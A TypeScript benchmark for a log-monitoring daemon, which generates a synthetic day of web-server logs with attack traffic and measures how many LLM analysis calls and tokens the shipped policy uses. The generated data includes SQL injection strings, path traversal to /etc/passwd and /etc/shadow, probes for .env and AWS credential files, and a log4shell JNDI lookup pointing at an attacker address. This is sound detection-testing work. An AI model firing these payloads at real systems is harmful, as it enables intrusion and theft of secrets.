/**
 * LLM analysis benchmark (issues 5 and 15): LLM calls and tokens per thousand
 * incidents on a generated attack day with the shipped policy.
 *
 * One deterministic day of logs (normal traffic from thousands of clients;
 * hundreds of attackers probing, injecting, scanning, guessing logins and
 * flooding; 5xx storms and failing servers; an application logging errors,
 * some never seen before) goes, in event-time order, through the daemon's
 * pipeline with every shipped rule. Incidents get ids as storage gives them;
 * every 'opened' / 'escalated' transition that an `analyse` entry of the
 * shipped config/policy.yaml matches (and, in the settings that apply them,
 * no `settled` entry holds back) is analysed at once, as the daemon's
 * escalation does, by the real analyser (real prompts, the real
 * @anthropic-ai/sdk) against a loopback fake of the Messages API (one per
 * setting), once per setting: before and after issue 15 side by side. The
 * analysers' clock is the log's time, so calls per hour, tokens per day, the
 * batch windows and the cache's lifetimes apply over the simulated day.
 * Each setting's calls are broken down by the triage rules they asked about.
 * Prints figures; asserts nothing. Network: 127.0.0.1 only.
 *
 *   npm run bench:analysis
 */
import { fileURLToPath } from 'node:url';
import { loadRules } from '../../src/pipeline/triage/load.js';
import { createTriage } from '../../src/pipeline/triage/engine.js';
import { createPipeline } from '../../src/monitor/pipeline.js';
import { SHIPPED_RULES_DIR } from '../../src/monitor/monitor.js';
import { createTransitionTracker } from '../../src/pipeline/notify/transitions.js';
import { loadPolicy } from '../../src/pipeline/policy/load.js';
import { analyseEntry, ruleMatches, settledEntry } from '../../src/pipeline/policy/decide.js';
import { createAnalyser } from '../../src/pipeline/analysis/analyser.js';
import { parseAnalysisConfig } from '../../src/config/analysis.js';
import { askedIncidents, startFakeAnthropic, type RecordedRequest, type ScriptedReply } from '../../test/helpers/anthropic-server.js';
import { BATCH_TOOL_NAME } from '../../src/pipeline/analysis/batch-reply.js';
import { int, printFindings, table, t } from './stats.js';
import { rng, stamp } from './loggen.js';

const POLICY_FILE = fileURLToPath(new URL('../../config/policy.yaml', import.meta.url));
const DAY0 = Date.UTC(2026, 10, 25);
const MIN = 60_000;
const HOUR = 60 * MIN;

// --- The attack day ---------------------------------------------------------

/** app.example.com is a single-page app: every path answers 200 (index.html), probes for secrets included. */
const HOSTS = [
  { host: 'shop.example.com', be: 'be_shop', spa: false },
  { host: 'app.example.com', be: 'be_app', spa: true },
  { host: 'api.example.com', be: 'be_api', spa: false },
] as const;
type Host = (typeof HOSTS)[number];
const PATHS = ['/', '/index.html', '/css/site.css', '/js/app.js', '/img/logo.png', '/api/items?page=2', '/products/42', '/about', '/favicon.ico', '/search?q=shoes'];
const PROBES = ['/.env', '/.git/config', '/.env.production', '/wp-config.php.bak', '/.aws/credentials', '/backup.sql', '/db.sql.gz', '/www.zip', '/phpmyadmin/', '/wp-admin/setup-config.php', '/adminer.php', '/.DS_Store'];
const SQLI = ["'%20OR%201=1--", '%20UNION%20SELECT%20null,version()--', '%20AND%20sleep(5)', "'%20AND%20extractvalue(1,concat(0x7e,user()))--"];
const TRAVERSAL = ['/../../../../etc/passwd', '/static/..%2f..%2f..%2fetc%2fpasswd', '/download?file=../../../../etc/shadow', '/index.php?page=php://filter/resource=index.php'];
const BROWSERS = ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0'];
const BOTS = ['curl/8.0', 'python-requests/2.31', 'Go-http-client/1.1', 'Mozilla/5.0 zgrab/0.x', BROWSERS[0]!];
const SCANNERS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'];
const WORDS = ['admin', 'old', 'test', 'dev', 'cms', 'portal', 'private', 'tmp', 'staging', 'api/v1', 'config', 'upload'];
const KNOWN_ERRORS = ['request GET /api/cart/%d failed: upstream timeout after 3000 ms', 'user %d not authorised for /api/admin/reports', 'retrying job %d after a transient error', 'stale cache for key product:%d refreshed late'];
const NOVEL_ERRORS = [
  'payment provider returned status 402 for order %d', 'could not acquire a database connection within %d ms (pool exhausted)',
  'cache entry user:%d could not be deserialised: unexpected end of JSON input', 'invoice PDF rendering killed the worker with exit code %d',
  'webhook delivery to partner %d rejected: certificate has expired', 'search index shard %d is read-only: disk usage above flood stage',
  'duplicate key value violates unique constraint "orders_pkey" (order %d)', 'email queue backlog reached %d messages',
  'feature flag service unreachable for %d s, serving defaults', 'S3 upload of export %d failed: SlowDown, reduce your request rate',
  'JWT signature verification failed for key id %d', 'panic: runtime error: invalid memory address or nil pointer dereference (goroutine %d)',
];


interface Line { time: number; line: string; source: 'haproxy' | 'app-api' }
/** Distinct addresses per pool: `${a}.${b + k/256}.${k%256}.x`. */
const addr = (a: number, b: number, k: number) => `${a}.${b + (k >> 8)}.${k & 255}.${1 + ((k * 37) % 250)}`;
const CLIENTS = 6000;
const ATTACKERS = 900;
const STUFFERS = 3 * 70;

/** Yields the day's lines in event-time order (sorted per minute; attacks are laid out first, normal traffic made per minute). */
function* attackDay(): Generator<Line> {
  const r = rng(2026);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const between = (lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));
  const buckets: Line[][] = Array.from({ length: 1440 }, () => []);
  const put = (time: number, line: string, source: Line['source'] = 'haproxy') => buckets[Math.floor((time - DAY0) / MIN)]?.push({ time, line, source });
  const event = (time: number, msg: string) => put(time, `${stamp(time).syslog} lb haproxy[123]: ${msg}`);
  const req = (time: number, ip: string, h: Host, status: number, method: string, path: string, ua: string, term = '----') => {
    const s = stamp(time);
    put(time, `${s.syslog} lb haproxy[123]: ${ip}:${40000 + (time % 20000)} [${s.accept}] fe_https ${h.be}/s${time % 3} 0/0/1/${time % 50}/${time % 60} ${status} ${200 + (time % 5000)} - - ${term} 12/12/3/1/0 0/0 {${h.host}|${ua}} "${method} ${path} HTTP/1.1"`);
  };
  const app = (time: number, level: string, message: string) => put(time, JSON.stringify({ time: new Date(time).toISOString(), level, message }), 'app-api');
  const start = () => DAY0 + Math.floor(r() * 1410 * MIN);

  // Attack sessions; r()^2 makes some addresses come back many times.
  const kinds = ['probe', 'probe', 'probe', 'sqli', 'sqli', 'traversal', 'scanner', 'brute', 'brute', 'denied', 'log4shell'] as const;
  for (let k = 0; k < 2400; k++) {
    const ip = addr(185, 100, Math.floor(r() ** 2 * ATTACKERS));
    const h = pick(HOSTS);
    const ua = pick(BOTS);
    let time = start();
    const gap = (lo: number, hi: number) => (time += between(lo, hi));
    const n = (lo: number, hi: number) => between(lo, hi);
    switch (pick(kinds)) {
      case 'probe': for (let i = n(3, 14); i > 0; i--) req(gap(500, 8000), ip, h, h.spa ? 200 : pick([404, 404, 403]), 'GET', pick(PROBES), ua); break;
      case 'sqli': for (let i = n(1, 12); i > 0; i--) req(gap(1000, 20_000), ip, h, pick([200, 403, 500]), 'GET', `/products?id=${n(1, 999)}${pick(SQLI)}`, ua); break;
      case 'traversal': for (let i = n(1, 6); i > 0; i--) req(gap(1000, 20_000), ip, h, h.spa ? 200 : 404, 'GET', pick(TRAVERSAL), ua); break;
      case 'scanner': {
        const scanner = pick(SCANNERS);
        for (let i = n(60, 200); i > 0; i--) req(gap(200, 1200), ip, h, h.spa ? 200 : 404, 'GET', i % 25 === 0 ? pick(PROBES) : `/${pick(WORDS)}/${i}.php`, scanner);
        break;
      }
      case 'brute': for (let i = n(12, 60); i > 0; i--) req(gap(2000, 9000), ip, h, 401, 'POST', h.host === 'api.example.com' ? '/api/login' : '/login', ua); break;
      case 'denied': for (let i = n(20, 90); i > 0; i--) req(gap(100, 900), ip, h, 429, 'GET', '/', ua, 'PR--'); break;
      case 'log4shell': for (let i = n(1, 3); i > 0; i--) req(gap(1000, 5000), ip, h, 400, 'GET', `/?q=\${jndi:ldap://${ip}:1389/a}`, ua); break;
    }
  }
  // Request floods: ~150 requests a second for ~80 s from one address.
  for (let f = 0; f < 3; f++) {
    let time = start();
    for (let i = 0; i < 12_000; i++) req((time += between(3, 10)), addr(185, 100, f), HOSTS[0], 200, 'GET', pick(PATHS), BROWSERS[0]!);
  }
  // Credential stuffing: 70 addresses, two failed logins each, within 4 minutes.
  for (let c = 0; c < 3; c++) {
    const t0 = start();
    for (let b = 0; b < 70; b++) for (let i = 0; i < 2; i++) req(t0 + between(0, 240_000), addr(45, 60, c * 70 + b), HOSTS[0], 401, 'POST', '/login', pick(BROWSERS));
  }
  // 5xx storms: a server goes DOWN, its backend answers ~90 5xx a minute for
  // 6-20 minutes, the application logs upstream errors; two servers flap, one
  // backend is left with no server.
  for (let s = 0; s < 8; s++) {
    const h = HOSTS[s % 3]!;
    const t0 = start();
    const mins = between(6, 20);
    const down = (at: number) => event(at, `Server ${h.be}/s1 is DOWN, reason: Layer4 timeout, check duration: 2001ms. 2 active and 0 backup servers left. 12 sessions active, 0 requeued, 0 remaining in queue.`);
    down(t0);
    if (s < 2) [10, 20].forEach((m) => down(t0 + m * MIN));
    if (s === 3) event(t0 + MIN, `backend ${h.be} has no server available!`);
    for (let i = 0; i < mins * 90; i++) {
      const at = t0 + between(0, mins * MIN);
      req(at, addr(81, 0, between(0, CLIENTS - 1)), h, pick([502, 503, 504]), 'GET', pick(PATHS), pick(BROWSERS), 'SH--');
      if (i % 3 === 0) app(at, 'error', `upstream ${h.be} request failed: ${pick(['connect timeout', 'connection refused', 'read timeout'])} after ${between(1000, 30_000)} ms`);
    }
  }
  // New kinds of application errors, after the novelty detector's warm-up, each seen a few times.
  for (const msg of NOVEL_ERRORS) {
    for (let i = between(1, 4); i > 0; i--) app(DAY0 + 2 * HOUR + Math.floor(r() * 21 * HOUR), 'error', msg.replace('%d', String(between(100, 99_999))));
  }

  for (let m = 0; m < 1440; m++) {
    const base = DAY0 + m * MIN;
    // Normal traffic: 150 lines a minute at night, 350 at noon.
    for (let i = Math.round(150 + 200 * Math.sin((Math.PI * m) / 1440) ** 2); i > 0; i--) {
      const h = pick(HOSTS);
      const x = r();
      const login = x < 0.004;
      const status = login ? (r() < 0.2 ? 401 : 302) : !h.spa && x > 0.97 ? 404 : x > 0.999 ? 500 : 200;
      req(base + Math.floor(r() * MIN), addr(81, 0, Math.floor(r() * CLIENTS)), h, status, login ? 'POST' : 'GET', login ? '/login' : x > 0.97 ? `/products/${between(1, 99_999)}` : pick(PATHS), pick(BROWSERS));
    }
    // The application: 15 info lines a minute, a known error every 3 minutes or so.
    for (let i = 0; i < 15; i++) app(base + Math.floor(r() * MIN), 'info', `request GET /api/items/${between(1, 5000)} completed with 200 in ${between(2, 300)} ms`);
    if (r() < 0.33) app(base + Math.floor(r() * MIN), 'error', pick(KNOWN_ERRORS).replace('%d', String(between(1, 9999))));
    const lines = buckets[m]!.sort((a, b) => a.time - b.time);
    buckets[m] = [];
    yield* lines;
  }
}

// --- The run ------------------------------------------------------------------

/** A valid report_analysis call of a plausible size (the fake API counts its characters / 4 as output tokens). */
const REPLY: ScriptedReply = {
  kind: 'tool',
  input: {
    summary: 'The rules opened this incident from the sampled log lines. The pattern matches automated traffic or a failing upstream rather than ordinary visitors; the samples show no sign of success beyond what the rule reports.',
    likely_cause: 'An automated client, or a backend that stopped answering in time.',
    severity: 'medium',
    confidence: 0.7,
    recommended_actions: [{ type: 'notify_only', target: '', reason: 'A person should confirm before anything changes.' }],
  },
};

/** A batch call's reply: REPLY once per incident asked about (the fake API counts its characters as output tokens). */
const respond = (req: RecordedRequest): ScriptedReply => {
  const ids = askedIncidents(req);
  return ids === null ? REPLY : { kind: 'tool', name: BATCH_TOOL_NAME, input: { analyses: ids.map((incident) => ({ incident, ...(REPLY as { input: object }).input })) } };
};

/**
 * The settings compared. `settled`: the shipped policy's `settled` entries
 * apply (false: as before them, every incident an `analyse` entry matches is
 * sent). (a) and (b) are the analyser as it was: a cache entry answered for
 * 6 h from when it was made (max_age_s = ttl_s).
 */
const BEFORE_CACHE = { max_age_s: 6 * 3600 };
const SETTINGS = [
  { label: '(a) one call per incident', settled: false, budget: {}, cache: BEFORE_CACHE, batch: { max_items: 1, fold: false } },
  { label: '(b) batch 5 s + fold', settled: false, budget: {}, cache: BEFORE_CACHE, batch: { max_wait_s: 5, max_wait_below_high_s: 5 } },
  { label: '(c) shipped defaults', settled: true, budget: {}, cache: {}, batch: {} },
  { label: '(d) shipped, nothing settled', settled: false, budget: {}, cache: {}, batch: {} },
  { label: '(e) shipped, no window', settled: true, budget: {}, cache: {}, batch: { max_wait_s: 0, max_wait_below_high_s: 0 } },
];

/** The incident ids a recorded call asked about: a batch's items, or a single call's header. */
const idsOf = (req: RecordedRequest): number[] => {
  const batch = askedIncidents(req);
  if (batch) return batch;
  const content = req.body?.messages?.[0]?.content;
  const m = /^Incident #(\d+) /m.exec(typeof content === 'string' ? content : '');
  return m ? [Number(m[1])] : [];
};

async function main() {
  const started = t();
  // One fake API per setting, so that each setting's calls can be broken down by what they asked.
  const fakes = await Promise.all(SETTINGS.map(() => startFakeAnthropic({ respond })));
  const rules = loadRules({ dir: SHIPPED_RULES_DIR, operatorDir: null });
  const pipeline = createPipeline({ triage: createTriage(rules.rules, { isProtected: () => false }), incidents: { quietMs: 600_000, maxSamples: 10, maxOpen: 10_000 }, noveltyWarmup: 1000 });
  const { policy } = loadPolicy({ file: POLICY_FILE });
  // The shipped policy without its `settled` entries: what was sent before them.
  const unsettled = { ...policy, settled: [] };
  let clock = DAY0;
  // The batch windows run on log time too: timers fire as the log's clock passes them.
  let timers: { at: number; fn: () => void }[] = [];
  const schedule = (ms: number, fn: () => void) => {
    const t = { at: clock + ms, fn };
    timers.push(t);
    return () => { timers = timers.filter((x) => x !== t); };
  };
  const runs = SETTINGS.map((s, i) => ({
    ...s,
    fake: fakes[i]!,
    requests: 0,
    hourly: new Array<number>(25).fill(0),
    analyser: createAnalyser(
      parseAnalysisConfig({
        enabled: true, base_url: fakes[i]!.url, budget: s.budget, cache: s.cache, batch: s.batch,
        fast: { model: 'claude-haiku-4-5', max_retries: 0, timeout_ms: 10_000, input_usd_per_mtok: 1, output_usd_per_mtok: 5 },
      }),
      { apiKey: 'bench-not-a-key', now: () => clock, schedule }, // the budget, the cache and the batch window run on log time
    ),
  }));
  const calls = (a: (typeof runs)[number]['analyser']) => a.usage().byModel['claude-haiku-4-5']?.calls ?? 0;

  const transitions = createTransitionTracker();
  const seen = { opened: 0, escalated: 0, resolved: 0 };
  const byRule = new Map<string, { category: string; opened: number; requests: number; settled: number; entry: string }>();
  // requests/incidents: the first matching entry (what analyseEntry names); matched: every entry that matches, in any order.
  const byEntry = new Map<string, { requests: number; incidents: Set<number>; matched: number }>(policy.analyse.map((e) => [e.name, { requests: 0, incidents: new Set(), matched: 0 }]));
  let nextId = 0;
  const ruleOf = new Map<number, string>();
  /** Requests the shipped policy's `settled` entries kept from the LLM tier, by entry. */
  const settledBy = new Map<string, number>();
  let samplesSent = 0;
  let llmMs = 0;

  // As the monitor's flush and the escalation's onIncident: resolve quiet
  // incidents, give new ones an id, and analyse what the policy escalates.
  const flush = async (now: number) => {
    pipeline.tick(now);
    for (const inc of pipeline.incidents.drainChanged()) {
      if (inc.id === 0) inc.id = ++nextId;
      ruleOf.set(inc.id, inc.rule);
      const kind = transitions.observe(inc);
      if (!kind) continue;
      seen[kind]++;
      const row = byRule.get(inc.rule) ?? { category: inc.category, opened: 0, requests: 0, settled: 0, entry: '' };
      byRule.set(inc.rule, row);
      if (kind === 'opened') row.opened++;
      // What the shipped policy sends (null when a `settled` entry keeps it), and what it sent before `settled`.
      const entry = kind === 'resolved' ? null : analyseEntry(policy, inc);
      const before = kind === 'resolved' ? null : analyseEntry(unsettled, inc);
      if (!before) continue;
      if (!entry) {
        const name = settledEntry(policy, inc)!;
        settledBy.set(name, (settledBy.get(name) ?? 0) + 1);
        row.settled++;
      } else {
        for (const e of policy.analyse) if (e.enabled && ruleMatches(e, inc, null)) byEntry.get(e.name)!.matched++;
        samplesSent += Math.min(inc.samples.length, 10);
        row.requests++;
        row.entry = row.entry && row.entry !== entry ? `${row.entry}, ${entry}` : entry;
        byEntry.get(entry)!.requests++;
        byEntry.get(entry)!.incidents.add(inc.id);
      }
      // The daemon's context without its database and stats socket: counts only.
      const ctx = { counts: { events: inc.count, samples_kept: inc.samples.length } };
      const w = t();
      for (const run of runs) {
        if (!(run.settled ? entry : before)) continue;
        run.requests++;
        void run.analyser.analyse(inc, ctx);
      }
      await settle();
      llmMs += t() - w;
    }
  };

  /** Waits for the calls started (a full or critical batch goes at once); books them in the current hour. */
  const settle = async () => {
    for (const run of runs) {
      const before = calls(run.analyser);
      await run.analyser.idle();
      run.hourly[Math.min(24, Math.floor((clock - DAY0) / HOUR))]! += calls(run.analyser) - before;
    }
  };
  /** Fires the batch windows that closed by `upTo`, in order, each at its own time. */
  const fireDue = async (upTo: number) => {
    for (;;) {
      const next = timers.reduce<(typeof timers)[number] | null>((a, x) => (x.at <= upTo && (!a || x.at < a.at) ? x : a), null);
      if (!next) return;
      timers = timers.filter((x) => x !== next);
      clock = Math.max(clock, next.at);
      next.fn();
      await settle();
    }
  };
  const nextTimer = () => timers.reduce((a, x) => Math.min(a, x.at), Infinity);

  let lines = 0;
  let appLines = 0;
  let last = pipeline.incidents.stats();
  for (const l of attackDay()) {
    if (l.time >= nextTimer()) await fireDue(l.time);
    pipeline.process({ source: l.source, line: l.line, format: l.source === 'haproxy' ? 'haproxy' : 'json', receivedAt: l.time });
    lines++;
    if (l.source === 'app-api') appLines++;
    const s = pipeline.incidents.stats();
    // The monitor writes at once when an incident opens or rises, else every second.
    if (s.opened !== last.opened || s.raised !== last.raised || lines % 5000 === 0) {
      last = s;
      clock = pipeline.clock();
      await flush(clock);
    }
  }
  await flush(pipeline.clock() + 600_000); // the end of the day: everything resolves
  await fireDue(Infinity);
  await Promise.all(fakes.map((f) => f.close()));
  const wall = t() - started;

  // --- Printing ---
  const st = pipeline.stats();
  const opened = seen.opened;
  const per1k = (v: number) => (opened ? int(Math.round((v * 1000) / opened)) : '-');
  const pct = (v: number, of: number) => (of ? `${((100 * v) / of).toFixed(1)}%` : '-');
  const escalatedIds = new Set([...byEntry.values()].flatMap((e) => [...e.incidents]));
  const requests = [...byEntry.values()].reduce((a, e) => a + e.requests, 0);
  console.log('LLM analysis: calls and tokens per 1,000 incidents on a generated attack day, shipped rules and shipped policy\n');
  console.log('The day');
  console.log(`  event time     ${new Date(DAY0).toISOString().slice(0, 16)} -> ${new Date(pipeline.clock()).toISOString().slice(0, 16)} UTC (${((pipeline.clock() - DAY0) / HOUR).toFixed(1)} h)`);
  console.log(`  lines          ${int(lines)} (HAProxy ${int(lines - appLines)}, application ${int(appLines)}; unparsed ${int(st.unparsed)}; findings ${int(st.findings)})`);
  console.log(`  addresses      ${int(CLIENTS)} normal clients, ${int(ATTACKERS)} attackers (probes, SQLi, traversal, scanners, login guessing, floods, log4shell), ${int(STUFFERS)} credential stuffers; 8 5xx storms`);
  console.log(`  transitions    opened ${int(seen.opened)}, escalated ${int(seen.escalated)}, resolved ${int(seen.resolved)}; opened + escalated = ${int(seen.opened + seen.escalated)}`);
  const cats = new Map<string, { opened: number; requests: number }>();
  for (const r of byRule.values()) {
    const c = cats.get(r.category) ?? { opened: 0, requests: 0 };
    c.opened += r.opened;
    c.requests += r.requests;
    cats.set(r.category, c);
  }
  console.log('\nIncidents by category');
  console.log(table(['category', 'incidents', 'share', 'sent to LLM'], [...cats].sort((a, b) => b[1].opened - a[1].opened).map(([c, v]) => [c, int(v.opened), pct(v.opened, opened), int(v.requests)])));
  console.log('\nIncidents by triage rule');
  console.log(table(['rule', 'category', 'incidents', 'sent to LLM', 'settled (policy `settled`)', 'analyse entry'], [...byRule].sort((a, b) => b[1].opened - a[1].opened).map(([name, r]) => [name, r.category, int(r.opened), int(r.requests), r.settled ? int(r.settled) : '-', r.entry || '-'])));
  console.log('\nWhat the shipped policy sends to the LLM tier (policy.yaml `analyse`, first matching entry; on opened and escalated)');
  console.log(table(['analyse entry', 'requests', 'incidents', 'share of incidents', 'matches (ignoring order)'], [
    ...[...byEntry].map(([name, e]) => [name, int(e.requests), int(e.incidents.size), pct(e.incidents.size, opened), int(e.matched)]),
    ['any entry', int(requests), int(escalatedIds.size), pct(escalatedIds.size, opened), '-'],
    ...[...settledBy].map(([name, n]) => [`kept back by settled: ${name}`, `(${int(n)})`, '-', '-', '-']),
    ['settled by rules alone', '-', int(opened - escalatedIds.size), pct(opened - escalatedIds.size, opened), '-'],
  ]));
  if (requests) console.log(`  samples in a prompt: ${(samplesSent / requests).toFixed(2)} on average (max_samples 10)`);

  const usage = runs.map((r) => r.analyser.usage());
  const m = usage.map((u) => u.byModel['claude-haiku-4-5'] ?? { calls: 0, inputTokens: 0, outputTokens: 0, usd: 0 });
  const row = (label: string, f: (i: number) => string) => [label, ...runs.map((_, i) => f(i))];
  const sum = (o: Record<string, number>) => Object.values(o).reduce((a, b) => a + b, 0);
  console.log('\nLLM calls and tokens (fast model claude-haiku-4-5, no strong model; analyser clock = log time)');
  console.log(table(['', ...runs.map((r) => r.label)], [
    row('incidents opened', () => int(opened)),
    row('analysis requests', (i) => int(runs[i]!.requests)),
    row('analysed (call or cache)', (i) => int(usage[i]!.analysed + usage[i]!.cacheHits)),
    row('LLM calls', (i) => int(m[i]!.calls)),
    row('cache hits', (i) => int(usage[i]!.cacheHits)),
    row('skipped: calls per hour', (i) => int(usage[i]!.skipped.budget_calls ?? 0)),
    row('skipped: tokens per day', (i) => int(usage[i]!.skipped.budget_tokens ?? 0)),
    row('skipped: other', (i) => int(sum(usage[i]!.skipped) - (usage[i]!.skipped.budget_calls ?? 0) - (usage[i]!.skipped.budget_tokens ?? 0))),
    row('failed', (i) => int(sum(usage[i]!.failed))),
    row('calls in the busiest hour', (i) => int(Math.max(...runs[i]!.hourly))),
    row('input tokens', (i) => int(m[i]!.inputTokens)),
    row('output tokens', (i) => int(m[i]!.outputTokens)),
    row('input tokens per call', (i) => (m[i]!.calls ? int(Math.round(m[i]!.inputTokens / m[i]!.calls)) : '-')),
    row('per 1,000 incidents: analysis requests', (i) => per1k(runs[i]!.requests)),
    row('per 1,000 incidents: calls', (i) => (opened ? ((m[i]!.calls * 1000) / opened).toFixed(1) : '-')),
    row('per 1,000 incidents: input tokens', (i) => per1k(m[i]!.inputTokens)),
    row('per 1,000 incidents: output tokens', (i) => per1k(m[i]!.outputTokens)),
    row('cost of the day, USD (assumed)', (i) => m[i]!.usd.toFixed(3)),
    row('cost per 1,000 incidents, USD (assumed)', (i) => (opened ? ((m[i]!.usd * 1000) / opened).toFixed(3) : '-')),
  ]));

  // What each setting's calls asked about, by triage rule: a call about several rules counts once for each.
  const perCall = runs.map((r) => r.fake.requests.map((req) => idsOf(req).map((id) => ruleOf.get(id) ?? '?')));
  const callRules = [...new Set(perCall.flat(2))].sort();
  const cell = (i: number, rule: string) => {
    const calls = perCall[i]!.filter((c) => c.includes(rule));
    return calls.length ? `${int(calls.length)} (${int(calls.reduce((a, c) => a + c.filter((x) => x === rule).length, 0))})` : '-';
  };
  console.log('\nLLM calls by triage rule: calls that asked about the rule (its incidents asked about); a call about several rules counts for each');
  console.log(table(['rule', ...runs.map((r) => r.label)], [
    ...callRules.map((rule) => [rule, ...runs.map((_, i) => cell(i, rule))]),
    ['all calls', ...runs.map((_, i) => `${int(perCall[i]!.length)} (${int(perCall[i]!.reduce((a, c) => a + c.length, 0))})`)],
    ['calls about one incident', ...runs.map((_, i) => int(perCall[i]!.filter((c) => c.length === 1).length))],
    ['calls about one rule only', ...runs.map((_, i) => int(perCall[i]!.filter((c) => new Set(c).size === 1).length))],
  ]));
  console.log(`
Notes:
  - Every setting runs the default budget (calls_per_hour 60, tokens_per_day 500,000) and cache (1,000 entries).
    (a) one call per incident, identical incidents from the cache (batch.max_items 1, fold off), a cached
    analysis answering 6 h from when it was made, every incident an \`analyse\` entry matches sent;
    (b) as (a) with batching (a 5 s window for every severity) and folding on.
    (c) the shipped defaults: policy \`settled\` entries held back, waits of 60 s (high) and 10 min (medium,
    low, info; critical: none), a cached or folded analysis answering 6 h after its last use, at most 24 h.
    (d) as (c) without the \`settled\` entries; (e) as (c) with no window. Batch windows run on log time.
  - Tokens are estimates: the loopback fake API reports input = request body characters / 4 (the real
    system prompt, tool schema and user prompt with redacted samples) and output = reply characters / 4 of
    a canned ~${Math.round(JSON.stringify(REPLY).length / 10) * 10}-character tool call. Real tokenisers differ, the API adds its own tool-use
    system prompt (a few hundred tokens a call), and a real model's reply length varies.
  - Cost assumes Haiku-class prices set in the config: input_usd_per_mtok 1, output_usd_per_mtok 5.
  - Unlike the daemon: a request skipped by the budget is not retried (the daemon's queue retries it for up
    to 1 h while the incident is open, under the same hourly cap), and the prompt's context has counts only
    (no block/trust lists, recent actions or backend health).`);

  const findings: string[] = [];
  for (const [name, e] of byEntry) {
    if (e.requests === 0) findings.push(`analyse entry ${name} never fired on this day${e.matched ? ` (it matched ${int(e.matched)} requests, all taken by an earlier entry)` : ''}.`);
  }
  if (seen.escalated === 0) findings.push('no incident escalated after opening: every analysis was made when the incident opened.');
  const top = [...byRule].sort((a, b) => b[1].requests - a[1].requests)[0];
  if (top && requests) findings.push(`${top[0]} makes ${pct(top[1].requests, requests)} of the analysis requests (${int(top[1].requests)} of ${int(requests)}).`);
  const [a, shippedUsage] = [usage[0]!, usage[2]!];
  findings.push(`calls per 1,000 incidents: ${SETTINGS.map((x, i) => `${x.label} ${opened ? ((m[i]!.calls * 1000) / opened).toFixed(1) : '-'}`).join('; ')}.`);
  const skippedA = (a.skipped.budget_calls ?? 0) + (a.skipped.budget_tokens ?? 0);
  if (skippedA) findings.push(`under the default budget ${int(skippedA)} of ${int(runs[0]!.requests)} requests (${pct(skippedA, runs[0]!.requests)}) were skipped by the budget; busiest hour ${int(Math.max(...runs[0]!.hourly))} calls.`);
  for (const [name, n] of settledBy) findings.push(`settled entry ${name} kept ${int(n)} requests from the LLM tier.`);
  if (requests) findings.push(`with the shipped defaults, ${pct(shippedUsage.cacheHits, requests)} of the requests (${int(shippedUsage.cacheHits)}) took an analysis made for another incident (folded or cached); ${int(perCall[2]!.filter((c) => c.length === 1).length)} of ${int(perCall[2]!.length)} calls asked about one incident.`);
  for (const [i, u] of usage.entries()) if (sum(u.failed)) findings.push(`${runs[i]!.label}: analyser failures ${JSON.stringify(u.failed)}.`);
  findings.push(`wall time ${(wall / 1000).toFixed(1)} s, of which ${(llmMs / 1000).toFixed(1)} s awaiting analyses (${int(fakes.reduce((a, f) => a + f.requests.length, 0))} HTTP calls over loopback, all settings).`);
  printFindings(findings, `${(wall / 1000).toFixed(1)} s`);
}

await main();
